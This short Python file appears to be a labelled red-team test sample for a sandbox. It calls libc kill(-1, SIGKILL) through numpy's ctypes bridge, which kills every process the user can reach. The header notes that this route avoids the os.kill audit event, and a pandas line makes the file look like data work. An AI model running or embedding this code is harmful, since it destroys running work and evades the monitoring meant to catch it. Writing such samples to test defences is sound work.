# technique: libc kill(-1, SIGKILL) through numpy.ctypeslib.ctypes (no os.kill audit event on this path)
# goal: signal
# dangerous: yes
# redteam: E23 E49
import numpy as np
import pandas as pd

libc = np.ctypeslib.ctypes.CDLL(None, use_errno=True)
if libc.kill(-1, 9) != 0:
    raise OSError(np.ctypeslib.ctypes.get_errno(), "kill(-1, 9) failed")
df = pd.DataFrame({"killed": [-1]})
